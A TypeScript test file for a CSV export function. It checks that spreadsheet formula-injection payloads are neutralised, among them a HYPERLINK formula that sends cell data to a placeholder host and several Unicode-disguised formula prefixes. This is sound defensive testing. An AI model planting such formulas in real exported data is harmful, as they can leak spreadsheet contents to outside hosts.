import { describe, expect, test } from 'vitest'
import { hostileStrings } from '#server/testing/hostile-strings.ts'
import { seed } from '#server/testing/seed.ts'
import { csvLine, writings } from './csv.ts'

describe('a cell that a spreadsheet would take for a formula is text', () => {
  test.each([
    '=1+1',
    '+34 600 000 000',
    '-2+3',
    '@SUM(A1)',
    '=HYPERLINK("http://x.example?q="&A1)',
    '\t=1',
    '\r=1',
    ' =1',
    '\u200b=1',
    '\ufeff=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠x',
    '−1',
    '\u00ad=1',
    '\u202e=1',
    '\u2061@x',
    '﹦1',
    '﹢1',
    '﹣1',
    '﹫x',
  ])('%j', (text) => {
    expect(csvLine([text], writings.en)).toBe(`"'${text.replaceAll('"', '""')}"\r\n`)
  })
})

test('numbers stay numbers, in the decimals of their place', () => {
  const cells = [{ number: '-1234.50' }, { number: '7' }]
  expect(csvLine(cells, writings.en)).toBe('-1234.50,7\r\n')
  expect(csvLine(cells, writings.es)).toBe('-1234,50;7\r\n')
})

test('whatever a file says of separators and quotes is read back as it was', () => {
  const texts = ['plain', 'a,b', 'a;b', 'say "hi"', 'two\r\nlines', '', 'ñ 日本 🙂', ' edge ']
  expect(csvLine(texts, writings.en)).toBe('plain,"a,b","a;b","say ""hi""","two\r\nlines",,ñ 日本 🙂," edge "\r\n')
})

test('nothing is an empty cell', () => {
  expect(csvLine([null, 'x', null], writings.en)).toBe(',x,\r\n')
})

test(`no text whatsoever breaks out of its cell (seed ${seed})`, () => {
  for (const text of hostileStrings(2_000)) {
    for (const writing of Object.values(writings)) {
      const [cells, ...more] = readBack(csvLine(['before', text, 'after'], writing), writing.separator)
      expect(more).toEqual([])
      expect(cells?.length).toBe(3)
      expect([text, `'${text}`]).toContain(cells?.[1])
      expect(cells?.[1]).not.toMatch(/^\s*[=+\-@]/)
    }
  }
})

/** RFC 4180, by the letter. */
function readBack(text: string, separator: string): string[][] {
  const records: string[][] = []
  let cells: string[] = []
  let cell = ''
  let isQuoted = false
  for (let at = 0; at < text.length; at++) {
    const one = text[at] ?? ''
    if (isQuoted) {
      if (one !== '"') cell += one
      else if (text[at + 1] === '"') cell += text[++at] ?? ''
      else isQuoted = false
    } else if (one === '"') isQuoted = true
    else if (one === separator || (one === '\r' && text[at + 1] === '\n')) {
      cells.push(cell)
      cell = ''
      if (one === separator) continue
      records.push(cells)
      cells = []
      at++
    } else cell += one
  }
  return records
}
